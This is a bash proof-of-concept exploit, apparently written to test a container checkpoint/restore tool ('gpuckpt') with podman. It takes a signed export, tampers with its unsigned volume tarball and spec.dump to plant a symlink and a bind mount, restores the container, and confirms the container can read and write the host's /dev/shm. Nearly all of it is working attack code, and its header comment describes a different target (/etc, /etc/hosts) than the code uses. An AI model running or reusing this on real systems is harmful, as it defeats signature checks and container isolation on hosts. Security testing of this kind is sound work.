#!/bin/bash
# attack30g: a SIGNED export (default trust policy, nothing changed) whose unsigned parts are edited: the named
# volume's tar (outside checkpoint/, which the dump signature covers) plants overlay-containers/<ID>/userdata -> /etc
# under GRAPHROOT/volumes/NAME/_data (root-owned, "not movable"), and spec.dump adds a second /etc/hosts bind from
# there: container_own() calls it <self>/userdata/hosts, the very bind the signed checkpoint recorded.
set -u
D=/var/tmp/attack30g; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D; cp /etc/hosts $D/hosts.before
podman rm -f -t 0 attack30g-src >/dev/null 2>&1; podman volume rm -f attack30g-vol >/dev/null 2>&1
podman run -d --name attack30g-src --network none -v attack30g-vol:/data localhost/gpuckpt-test:latest \
  sh -c 'i=0; while true; do i=$((i+1)); echo $i > /tmp/count; sleep 1; done' >/dev/null; sleep 2
gpuckpt export attack30g-src -o $D/vsrc.tar.zst 2>&1 | tail -1
podman rm -f -t 0 attack30g-src >/dev/null; podman volume rm -f attack30g-vol >/dev/null
$P - <<'PY'
import io, json, tarfile, zstandard
src, out = "/var/tmp/attack30g/vsrc.tar.zst", "/var/tmp/attack30g/signedshm.tar.zst"
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
print([m.name for m, _ in members if not m.name.startswith("checkpoint/")])
cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
def vol(data):
    with tarfile.open(fileobj=io.BytesIO(data)) as vin:
        items = [(m, vin.extractfile(m).read() if m.isfile() else None) for m in vin]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as vout:
        for m, d in items:
            vout.addfile(m, io.BytesIO(d) if d is not None else None)
        for name in ("overlay-containers", f"overlay-containers/{cid}"):
            i = tarfile.TarInfo(name); i.type, i.mode, i.uid, i.gid = tarfile.DIRTYPE, 0o755, 0, 0; vout.addfile(i)
        i = tarfile.TarInfo(f"overlay-containers/{cid}/userdata"); i.type, i.linkname = tarfile.SYMTYPE, "/dev"; vout.addfile(i)
    return buf.getvalue()
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if m.name.startswith("volumes/") and m.name.endswith(".tar"):
            d = vol(d); print("edited", m.name)
        if m.name == "spec.dump":
            spec = json.loads(d)
            spec["mounts"].append({"destination": "/dev/shm", "type": "bind", "options": ["bind", "private", "nosuid", "noexec", "nodev"],
                "source": f"/var/lib/containers/storage/volumes/attack30g-vol/_data/overlay-containers/{cid}/userdata/shm"})
            d = json.dumps(spec).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
PY
timeout 200 podman container restore --import $D/signedshm.tar.zst 2>&1 | tail -2 | cut -c1-600; echo "restore rc=${PIPESTATUS[0]}"
ls -la /var/lib/containers/storage/volumes/attack30g-vol/_data/ /var/lib/containers/storage/volumes/attack30g-vol/_data/overlay-containers/*/ 2>&1 | head
mkdir -p /dev/shm/attack30g-host-probe; echo host-only > /dev/shm/attack30g-host-probe/f
podman exec attack30g-src sh -c 'grep " /dev/shm " /proc/self/mountinfo; ls -la /dev/shm; cat /dev/shm/attack30g-host-probe/f; echo from-container > /dev/shm/attack30g-host-probe/g' 2>&1; echo "exec rc=$?"
[ -e /dev/shm/attack30g-host-probe/g ] && echo "HOST /dev/shm (where the shim stages dumps) read and written from a container restored from a SIGNED archive"
rm -rf /dev/shm/attack30g-host-probe
cp $D/hosts.before /etc/hosts; cmp /etc/hosts $D/hosts.before && echo "host /etc/hosts put back"
podman rm -f -t 0 attack30g-src >/dev/null 2>&1; podman volume rm -f attack30g-vol >/dev/null 2>&1
